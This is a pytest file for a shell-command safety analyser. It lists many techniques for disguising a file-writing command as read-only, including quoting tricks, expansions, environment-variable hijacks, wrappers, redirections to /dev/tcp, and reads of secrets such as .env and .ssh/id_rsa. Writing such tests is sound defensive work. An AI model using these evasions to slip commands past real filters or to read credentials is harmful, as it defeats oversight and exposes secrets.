"""
Attacks on the analysis itself, by class: ways to make a harmful line look harmless.

The harm is `touch pwned` or `> pwned` or a read of a secret; what matters is how it is hidden. None may be read-only.
"""

import shlex

import pytest

from handrail.shell import Verdict, analyse, reads_outside, reads_secrets

ATTACKS: dict[str, list[str]] = {
    "another shell": [
        "sh -c " + shlex.quote("echo $'a\\'; touch pwned #\\''"), "sh -c 'echo &>/dev/null touch pwned'",
        "sh -c '[[ a > b ]]'",
        "dash -c '[[ x || y ]]'", "sh -c 'echo &>>/dev/null touch pwned'", "find . -exec sh -c '[[ a > b ]]' \\;",
        "nice sh -c '[[ -f a ]]'",
        "timeout 5 dash -c 'echo &> /dev/null touch pwned'", "xargs sh -c '[[ a > b ]]'",
        "sh -c \"bash -c '[[ a > b ]]'\"", "sh -c 'cat {a,b}'",
    ],
    "a value that may be empty": [
        "head \"-n$(true)\" -c -z", "head \"-n$COLUMNS\" -c -z", "grep \"-e$(true)\" -f /etc/x",
        "find . -exec head \"-n$(true)\" -c {} \\;",
        "for x in '' 5; do head \"-n$x\" -c -z; done", "git log -n`true` -S --output=pwned", "head \"-qn$LANG\" -c -z",
        "read -r x < f; head \"-n$x\" -c -z",
        "git log \"-n$(true)\" -S --output=pwned", "env \"-u$(true)\" -C ls",
    ],
    "quoting": [
        "to''uch pwned", "'touch' pwned", "t\\ouch pwned", '"touch" pwned', "touch\tpwned", "$'touch' pwned",
        "$'\\164ouch' pwned", "$'\\x74\\x6f\\x75\\x63\\x68' pwned", "$'\\u0074ouch' pwned", "$'\\cA' pwned",
        '$"touch" pwned', 'echo $"a$(touch pwned)"', "echo 'a'\\''; touch pwned'; touch pwned",
        'echo "a"; touch pwned', "echo 'a\\'; touch pwned; echo '", "echo \"'\"; touch pwned; echo \"'\"",
        "echo $'a\\\\'; touch pwned; echo 'b'", 'echo "\\\\"; touch pwned; echo "x"', "ls -$'l' $(touch pwned)",
        "echo a\\\n; touch pwned", "echo 'a\n'; touch pwned", "to\\\nuch pwned", "ec\\ho a; t'o'u\"c\"h pwned",
    ],
    "separators": [
        "ls;touch pwned", "ls&touch pwned", "ls&&touch pwned", "ls||touch pwned", "ls|touch pwned", "ls|&touch pwned",
        "ls\ntouch pwned", "ls\n\n\ttouch pwned", "ls &\ntouch pwned", "ls ; ; touch pwned", "ls;& touch pwned",
        "case a in a) ls;& b) touch pwned;; esac", "case a in a) ls;;& *) touch pwned;; esac", "ls # a\ntouch pwned",
        "ls #\ntouch pwned", "ls '#'; touch pwned", "ls a#b; touch pwned", "ls \\# a; touch pwned",
        "{ ls; touch pwned; }",
        "(ls; touch pwned)", "! touch pwned", "time touch pwned", "time -p touch pwned", "coproc touch pwned",
        "coproc x { touch pwned; }", "ls & touch pwned &", "ls | cat | tee pwned", "while touch pwned; do ls; done",
        "until touch pwned; do ls; done", "if touch pwned; then ls; fi", "if ls; then touch pwned; fi",
        "if ls; then ls; else touch pwned; fi", "for x in $(touch pwned); do ls; done",
        "for x in a; do touch pwned; done",
        "case $(touch pwned) in a) ls;; esac", "case a in $(touch pwned)) ls;; esac",
        "select x in a; do touch pwned; done",
        "for ((;;)); do touch pwned; done", "f() { touch pwned; }; f", "function f { touch pwned; }; f",
        "f() ( touch pwned ); f",
    ],
    "characters": [
        "ls\rtouch pwned", "ls\r\ntouch pwned", "ls\x0btouch pwned", "ls\x0ctouch pwned", "ls\u00a0touch",
        "ls\u2003-la",
        "ls\u2028touch pwned", "ls\x00touch pwned", "ls \ufeff", "\ufeffls", "l\u200bs", "ls\x1b[2K", "cat a\u202eb",
        "ls\x85touch pwned",
        "\uff4c\uff53", "g\u0456t log", "ls\u3000-la", "ls \U000e0074", "ls\x08\x08touch pwned", "ls\u2060",
        "ls \ufff9",
    ],
    "expansion": [
        "$(echo touch) pwned", "`echo touch` pwned", "x=touch; $x pwned", "x=touch; ${x} pwned",
        "a=to b=uch; $a$b pwned",
        "${x:-touch} pwned", "${x:=touch} pwned", "${x:+touch} pwned", "echo ${x:=$(touch pwned)}",
        "echo ${x:-$(touch pwned)}",
        "echo ${x-`touch pwned`}", "echo ${x#$(touch pwned)}", "echo ${x/a/$(touch pwned)}", "echo ${x:$(touch pwned)}",
        "echo ${x@P}", "x='$(touch pwned)'; echo ${x@P}", "echo ${!x}", "x=y; echo ${!x}", "echo ${!x@}",
        "echo ${!BASH*}",
        "echo ${x^^}", "echo ${x,,}", "echo ${x[$(touch pwned)]}", "echo ${x[@]}", "echo ${#x[@]}", "echo ${x:0:1}",
        "echo ${ touch pwned; }",
        "echo ${|touch pwned; }", "echo $((a[$(touch pwned)]))", "echo $((x))", "x='a[$(touch pwned)]'; echo $((x))",
        "echo $[a[$(touch pwned)]]", "echo $((`touch pwned`))", "echo $(($(touch pwned)))", "((a[$(touch pwned)]))",
        "let 'a[$(touch pwned)]'", "let x=1", "(( x = 1 ))", "echo {a,$(touch pwned)}", "echo ~$(touch pwned)",
        "{touch,pwned}",
        "{t,}ouch pwned", "touc{h,} pwned", "/bin/t*ch pwned", "./t?uch pwned", "* pwned", "[t]ouch pwned",
        "$0 -c 'touch pwned'",
        "$SHELL -c 'touch pwned'", "$_ pwned", "!!", "echo $(", "echo `", "echo <(touch pwned)", "cat >(touch pwned)",
        "cat <(ls) <(touch pwned)", "x=<(touch pwned)", "IFS=_; x=touch_pwned; $x", "touch$IFS'pwned'",
        "touch${IFS}pwned",
        "echo $IFS", "x=$(touch pwned)", "x=`touch pwned` ls", "echo \"$(touch pwned)\"", "echo \"`touch pwned`\"",
        "echo $(echo $(echo $(touch pwned)))", "echo `echo \\`touch pwned\\``", "echo \"${x:-\"; touch pwned; \"}\"",
        "[[ $(touch pwned) ]]", "[[ -n `touch pwned` ]]", "[ $(touch pwned) ]", "echo $(<pwned) $(> pwned)",
    ],
    "conditions": [
        "[[ -v a[$(touch pwned)] ]]", "[[ -v 'a[$(touch pwned)]' ]]", "test -v 'a[$(touch pwned)]'",
        "[ -v 'a[$(touch pwned)]' ]",
        "[[ 'a[$(touch pwned)]' -eq 1 ]]", "[[ 1 -lt 'a[$(touch pwned)]' ]]", "x='a[$(touch pwned)]'; [[ $x -eq 1 ]]",
        "x='a[$(touch pwned)]'; [[ x -gt 1 ]]", "[[ -R 'a[$(touch pwned)]' ]]", "test -R x",
        "[ -o a -a -v 'a[$(touch pwned)]' ]",
        "[[ a =~ $(touch pwned) ]]", "[[ -f <(touch pwned) ]]", "[[ a == $(touch pwned) ]]", "[[ a < $(touch pwned) ]]",
        "[[ a ]] > pwned", "[ a > pwned ]", "test a > pwned", "[[ a && $(touch pwned) ]]",
        "[[ ! -v 'a[$(touch pwned)]' ]]",
        "[[ ( -v 'a[$(touch pwned)]' ) ]]", "[ '(' -v 'a[$(touch pwned)]' ')' ]",
        "x='a[$(touch pwned)]'; [ $x -eq 1 ]", "test 'a[$(touch pwned)]' -eq 1",
    ],
    "builtins that evaluate": [
        "printf -v 'a[$(touch pwned)]' x", "printf -v x y", "printf -vx y", "read 'a[$(touch pwned)]' < f",
        "read -a x < f",
        "read x[1] < f", "read -p x y", "read", "read -e x", "read -u 3 x", "read PATH < f", "read IFS < f",
        "read -r LD_PRELOAD < f",
        "mapfile -C 'touch pwned' -c 1 x", "readarray -C touch x", "mapfile x < f", "declare x=1",
        "declare -i x='a[$(touch pwned)]'",
        "declare -n r=PATH", "declare 'a[$(touch pwned)]=1'", "declare -f", "typeset -p", "local x=1",
        "readonly PATH=/x",
        "export PATH=/x", "export x='$(touch pwned)'", "export -f ls", "unset 'a[$(touch pwned)]'", "unset -f ls",
        "unset PATH",
        "eval touch pwned", "eval 'ls'", "eval \"$(cat f)\"", "eval ls \\; touch pwned", "source f", ". f", ". ./f",
        "source <(ls)",
        "trap 'touch pwned' EXIT", "trap 'touch pwned' DEBUG; ls", "trap 'touch pwned' ERR", "alias ls='touch pwned'",
        "alias cat=rm",
        "shopt -s expand_aliases", "shopt -s extglob", "shopt -s lastpipe", "hash -p ./x ls", "hash ls=/x",
        "enable -f ./x.so x", "enable -n test",
        "enable", "exec touch pwned", "exec > pwned", "exec 3> pwned", "exec 3<>pwned", "exec -a ls touch pwned",
        "exec -c touch pwned",
        "exec < f", "command touch pwned", "command -p touch pwned", "command -v ls; touch pwned",
        "builtin eval touch pwned",
        "builtin cd / && cat x", "command eval 'touch pwned'", "compgen -C 'touch pwned'",
        "compgen -W '$(touch pwned)'", "complete -C touch x",
        "bind -x '\"a\":touch pwned'", "history -w pwned", "history -s x", "history", "fc -s", "fc -e touch", "set",
        "set -a", "set -o allexport",
        "set -k", "set -- -delete; find . \"$1\"", "set -f", "set +x -k", "set -o posix", "set -eo allexport",
        "getopts a x", "pushd /; cat x",
        "popd", "umask 000", "ulimit -c unlimited", "kill 1", "kill -9 -1", "wait; touch pwned", "jobs -x touch pwned",
        "suspend", "disown",
        "logout; touch pwned", "exit | touch pwned", "times > pwned", "caller $(touch pwned)", "shift 2", "let x",
        "dirs -c",
    ],
    "settings before a command": [
        "PATH=. ls", "PATH=/x:$PATH ls", "LD_PRELOAD=./x.so ls", "LD_LIBRARY_PATH=. ls", "LD_AUDIT=./x ls",
        "BASH_ENV=./x bash -c ls",
        "ENV=./x sh -c ls", "SHELLOPTS=xtrace ls", "PS4='$(touch pwned)' bash -xc ls",
        "PROMPT_COMMAND='touch pwned' ls", "GIT_PAGER='touch pwned' git log",
        "PAGER=./x git log", "PAGER='cat;touch pwned' git log", "GIT_EXTERNAL_DIFF=./x git diff",
        "GIT_SSH_COMMAND=./x git log",
        "GIT_DIR=/x git log", "GIT_CONFIG_COUNT=1 git log", "GIT_CONFIG_GLOBAL=./x git log", "GIT_EXEC_PATH=. git log",
        "GIT_ASKPASS=./x git log",
        "LESSOPEN='|./x %s' ls", "LESS=x ls", "MANPAGER=./x ls", "BROWSER=./x ls", "EDITOR=./x ls", "VISUAL=./x ls",
        "IFS=/ ls", "HOME=/x ls",
        "CDPATH=/ cd etc", "LOCPATH=. ls", "LC_ALL=../../x ls", "LC_ALL=/x ls", "LANG=$(touch pwned) ls",
        "LANGUAGE=../x ls", "NLSPATH=./x ls",
        "TZ=:/etc/shadow ls", "TZ=/etc/passwd ls", "TZDIR=. ls", "TERMINFO=. ls", "HISTFILE=pwned ls",
        "POSIXLY_CORRECT=1 ls",
        "RIPGREP_CONFIG_PATH=x ls", "GREP_OPTIONS=-f/etc/x grep a b", "GREP_COLOR=x grep a b", "PYTHONPATH=. ls",
        "NODE_OPTIONS=x ls", "PERL5OPT=x ls",
        "RUBYOPT=x ls", "http_proxy=x ls", "TMPDIR=. ls", "x=1 y=2 LD_PRELOAD=x ls", "PATH=.", "LD_PRELOAD=x; ls",
        "BASH_ENV=x; bash -c ls",
        "export LD_PRELOAD=x; ls", "env LD_PRELOAD=x ls", "env PATH=. ls", "env -i PATH=. ls", "env - PATH=. ls",
        "env -u A LD_PRELOAD=x ls",
        "env TZ=UTC PATH=. ls", "GLOBIGNORE=x ls", "BASH_FUNC_ls%%='() { touch pwned; }' ls", "x+=1 ls", "PATH+=:. ls",
        "a[0]=1 ls", "PATH[0]=. ls",
        "EXECIGNORE=x ls", "FCEDIT=x ls", "INPUTRC=x ls", "TIMEFORMAT='$(touch pwned)' ls",
        "COLUMNS='a[$(touch pwned)]' ls",
    ],
    "redirections": [
        "ls > pwned", "ls >> pwned", "ls >| pwned", "ls &> pwned", "ls &>> pwned", "ls >& pwned", "ls 2> pwned",
        "ls <> pwned", "ls 1<> pwned",
        "> pwned", ": > pwned", "ls 3> pwned", "ls >/dev/../tmp/x", "ls >/dev/nullx", "ls > /dev/null/../x",
        "ls >$(touch pwned)", "ls > $x", "ls >&$x",
        "ls > \"$x\"", "ls >*", "ls > ~/x", "ls > {a,b}", "cat < $(touch pwned)", "cat <<< $(touch pwned)",
        "cat <<< `touch pwned`", "cat <<E\n$(touch pwned)\nE",
        "cat <<E\n`touch pwned`\nE", "cat <<E\n${x:=$(touch pwned)}\nE", "cat <<-E\n\t$(touch pwned)\n\tE",
        "cat <<E\nx\nE\ntouch pwned",
        "cat <<'E'\nx\nE\ntouch pwned", "cat <<'E F'\nx\nE F\ntouch pwned", "cat <<E; touch pwned\nx\nE",
        "cat <<E && touch pwned\nE", "cat <<E | sh\ntouch pwned\nE",
        "sh <<E\ntouch pwned\nE", "bash <<< 'touch pwned'", "cat <<\"E\"\nE\ntouch pwned", "cat <<\\E\nE\ntouch pwned",
        "cat <<E\n\\\nE\ntouch pwned\nE",
        "cat <<$x\n$x\ntouch pwned", "cat <<$(touch pwned)\n", "cat </dev/tcp/a/1", "cat < /dev/udp/a/1",
        "ls > /dev/tcp/a/1", "exec 3<>/dev/tcp/a/1", "ls {x}> pwned",
        "ls 2>&1 > pwned", "ls >&3 3> pwned", "{ ls; } > pwned", "(ls) > pwned", "for x in a; do ls; done > pwned",
        "if ls; then ls; fi > pwned",
        "while ls; do ls; done > pwned", "case a in a) ls;; esac > pwned", "[[ a ]] > pwned", "f() { ls; } > pwned; f",
        "ls>pwned", "ls>pwned -la",
        "ls 2>pwned>/dev/null", "ls >/dev/null>pwned", "echo a >\\\npwned", "ls >''pwned", "time ls > pwned",
        "! ls > pwned", "ls | cat > pwned", "ls |& cat > pwned",
        "cat <<A <<B\nA\n$(touch pwned)\nB", "cat 0<pwned 1>pwned", "ls 10> pwned", "ls > pwned # > /dev/null",
        "ls >&\u00b2", "ls >&\u0663", "ls 2>&\uff11", "ls <&\u00b2",
    ],
    "wrappers": [
        f"{wrapper} touch pwned"
        for wrapper in (
            "sudo", "sudo -u x", "sudo -E", "sudo A=1", "doas", "env", "env -i", "env A=1", "env -u A", "env -C /",
            "env -", "env --", "nice", "nice -n 5", "nice -5",
            "nohup", "timeout 5", "timeout -k 1 5", "timeout --signal=9 5", "stdbuf -oL", "setsid", "ionice -c 3",
            "chrt -o 0", "taskset 1",
            "flock /tmp/l", "chroot /", "unshare", "nsenter -t 1", "watch", "watch -n 1", "unbuffer", "strace",
            "strace -f -o x", "ltrace", "perf stat", "parallel",
            "entr", "busybox", "xargs", "xargs -n1", "xargs -I{}", "xargs -0", "find . -exec", "script -c", "su -c",
            "time", "time -p", "command", "builtin", "exec", "eval",
            "fakeroot", "firejail", "caffeinate", "systemd-run", "ssh host", "runuser -u x", "pkexec", "prlimit",
            "setarch x", "rlwrap", "noglob", "timeout 5 nice env",
            "env env env", "sh -c", "bash -c", "dash -c", "zsh -c", "ksh -c", "! time", "command -p", "exec -a x",
        )
    ]
    + [
        "sh -c 'touch pwned'", "bash -c \"touch pwned\"", "sh -c 'sh -c \"touch pwned\"'", "sh -ec 'touch pwned'",
        "sh -c 'ls; $0' touch", "sh -c '\"$@\"' x touch pwned",
        "bash -lc ls", "bash -ic ls", "bash -xc ls", "bash --rcfile x -c ls", "bash -O extglob -c ls", "bash f",
        "sh < f", "cat f | sh", "cat f | bash -s", "ls | xargs sh",
        "find . -exec sh -c 'touch pwned' \\;", "find . -exec touch {} +", "find . -exec {} \\;", "xargs -I% sh -c %",
        "ls | xargs -I{} touch {}", "env -S 'touch pwned'",
        "env -S'touch pwned'", "env --split-string='touch pwned'", "env -vS 'touch pwned'", "env -S 'cat' ls -o f",
        "timeout 5 sh -c 'touch pwned'",
        "bash -c 'eval \"touch pwned\"'", "nice sh -c 'touch pwned'", "xargs -a f cat", "xargs --arg-file=f cat",
        "find . -okdir touch x \\;",
    ],
    "names that change meaning": [
        "cat() { touch pwned; }; cat f", "function cat { touch pwned; }; cat f", "cat () ( touch pwned ); cat",
        "alias cat='touch pwned'; cat f",
        "/bin/cat f; /bin/touch pwned", "./cat f", "../cat f", "bin/cat f", "~/cat f", "/tmp/ls",
        "\\cat f; \\touch pwned", "CAT=touch; $CAT pwned", "Ls", "cat.exe f",
        "exec -a git-tag git log", "exec -l git log", "exec -cl cat f", "exec -ax cat f",
        "-cat f", "'cat ' f", "'ls -la'", "cat\\ f", "ls\\;touch", "''", "\"\" ls", "[ -f a ] ]", "[[-f a ]]", "=ls",
        "a=b=c; =x",
    ],
    "words as options": [
        "find . $x", "find . \"$(cat f)\"", "find *", "git log *", "git log $(cat f)", "git diff \"$x\"",
        "cat f | xargs find", "cat f | xargs git log",
        "ls | xargs find . -name", "x=-delete; find . $x", "for x in -delete; do find . $x; done",
        "read -r x < f; find . \"$x\"", "x=a; read -r x < f || find . \"$x\"",
        "while read -r x; do find . \"$x\"; done < f", "git -c core.pager='touch pwned' log", "git -ccore.pager=x log",
        "git --config-env=a=b log", "git -C / -c a=b log",
        "x=1; while ls; do find . $x; x=-delete; done", "x=a; x=-delete; find . $x", "find . {-name,-delete}",
        "find . -{name,delete}", "find . -dele\\te", "find . '-delete'",
        "find . $'-delete'", "find . -na\\\nme x -delete", "git log --out\"put\"=pwned", "git log --output pwned",
        "git log '--output=pwned'", "git log --output=pwned --",
        "git log -O--output=x --output=pwned", "git log --form''at=%G?", "xargs -I{} git log {} < f",
    ],
}  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_no_way_of_hiding_makes_a_line_read_only(kind: str) -> None:
    passed = [line for line in ATTACKS[kind] if analyse(line).verdict is Verdict.READ_ONLY]
    assert passed == []


# Read-only by themselves, but what they read is not the workspace's to give.
READS = [
    "cat /etc/passwd", "cat ../x", "cat a/../../x", "cat ./a/./../../x", "cat ~/x", "cat ~root/x", "cat ~+/../x",
    "cat ~-/x", "cat $OLDPWD/x", "cat $HOME/x",
    "cat \"$HOME\"/x", "cd ..; cat x", "cd .. && cat x", "cd / && cat etc/passwd", "cd; cat x", "cd - && cat x",
    "cd ~ && cat x", "(cd ..; cat x)", "{ cd ..; cat x; }",
    "if cd ..; then cat x; fi", "cd a; cd ../..; cat x", "cd $(pwd)/.. && cat x", "while cd ..; do cat x; done",
    "for x in a /etc/x; do cat \"$x\"; done",
    "x=/etc/passwd; cat $x", "x=/etc; cat $x/passwd", "x=../y; cat \"$x\"", "cat {a,/etc/passwd}", "cat /e*/passwd",
    "cat .*", "cat .?/x", "cat ../*",
    "cat a/.*/x", "cat < /etc/passwd", "cat <<< a /etc/passwd", "wc -l < ../x", "grep -r x ..",
    "grep -f /etc/passwd a", "grep -f/etc/passwd a", "grep --file=/etc/passwd a",
    "find / -name x", "find .. -maxdepth 1", "find . .. -name x", "find /etc -exec cat {} +", "find . -newer /etc/x",
    "find . -samefile ../x", "ls /", "ls ..", "ls -R ~",
    "git -C .. log", "git -C / status", "git -C a -C ../.. log", "git diff -- ../x", "env -C .. cat x",
    "env --chdir=/ cat etc/passwd", "env -C a cat ../../x",
    "cat f | xargs cat", "ls | xargs cat", "find . | xargs cat", "find .. -print0 | xargs -0 cat",
    "ls -d /* | xargs wc", "cat $(cat f)", "cat `cat f`", "cat \"$(cat f)\"",
    "cat $(echo /etc/passwd)", "while read -r x; do cat \"$x\"; done < f", "read -r x < f; cat \"$x\"",
    "[ -f /etc/passwd ]", "[[ -f ../x ]]", "test ../a -nt b", "diff() { ls; }",
    "head a -n /etc/passwd", "wc a --total ../x", "cat /proc/self/environ", "cat /dev/sda", "head -c 9 /dev/urandom",
    "cat .env", "cat ./.env", "cat a/.env.local",
    "head .ssh/id_rsa", "cat .en?", "cat .e*", "cat id_*",
    "wc -l .netrc", "grep x .npmrc", "cd a; cat ../.env", "cat \".e\"'nv'", "cat .en\\v", "x=.env; cat $x",
    "git -C a diff -- ../.env",
]  # fmt: skip


def test_no_way_of_reading_elsewhere_or_of_secrets_goes_unsaid() -> None:
    unsaid = [
        line
        for line in READS
        if (analysis := analyse(line)).verdict is Verdict.READ_ONLY
        if not reads_outside(analysis, cwd="/w", roots=("/w",), home="/h")
        if not reads_secrets(analysis, cwd="/w", home="/h")
    ]
    assert unsaid == []
